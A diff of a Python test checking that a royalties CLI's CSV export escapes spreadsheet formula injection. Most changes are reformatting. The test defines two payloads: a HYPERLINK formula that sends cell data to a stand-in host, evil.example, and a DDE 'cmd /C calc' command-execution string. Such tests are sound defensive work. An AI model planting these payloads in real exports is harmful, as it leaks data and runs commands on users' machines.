@@ -16,7 +16,7 @@ from licensing.models import Channel, Merchant
 from tests import factory as F
 from tests.licensing.test_cli import run  # noqa: F401  (the fixture)
 
-EVIL_MERCHANT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+EVIL_MERCHANT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 EVIL_FILM = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
@@ -28,12 +28,20 @@ async def test_formula_names_are_text_in_the_cli_csv(db, run) -> None:  # noqa: 
         )
         await session.execute(update(Film).where(Film.id == tee.film_id).values(title=EVIL_FILM))
         when = F.at("2026-02-10T10:00")
-        await post_sales(session, [SaleLine("o:1", tee.id, 2, 5000, Channel.STOREFRONT, "US",
-                                            when)], now=when)  # fmt: skip
+        await post_sales(
+            session, [SaleLine("o:1", tee.id, 2, 5000, Channel.STOREFRONT, "US", when)], now=when
+        )
     code, out, _ = await run(
-        "report", "royalties", "--period", "2026-Q1", "--group-by", "merchant", "film",
-        "--format", "csv",
-    )  # fmt: skip
+        "report",
+        "royalties",
+        "--period",
+        "2026-Q1",
+        "--group-by",
+        "merchant",
+        "film",
+        "--format",
+        "csv",
+    )
     assert code == 0
     [row] = list(csv.DictReader(io.StringIO(out)))
     assert row["merchant"] == "'" + EVIL_MERCHANT
